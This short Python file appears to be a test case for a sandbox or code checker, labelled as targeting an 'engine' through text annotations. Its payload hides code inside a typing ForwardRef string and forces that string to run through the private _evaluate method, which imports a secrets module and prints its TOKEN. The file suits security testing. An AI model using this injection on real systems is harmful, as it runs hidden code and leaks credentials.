#: channel = text-annotations
#: reaches = engine
#: layer = check
#: note = a ForwardRef evaluates itself

from typing import List, get_args


async def run(context):
    (reference,) = get_args(List["print(__import__('engine.shared.secrets').shared.secrets.TOKEN) or int"])
    return reference._evaluate(globals(), None, recursive_guard=frozenset())
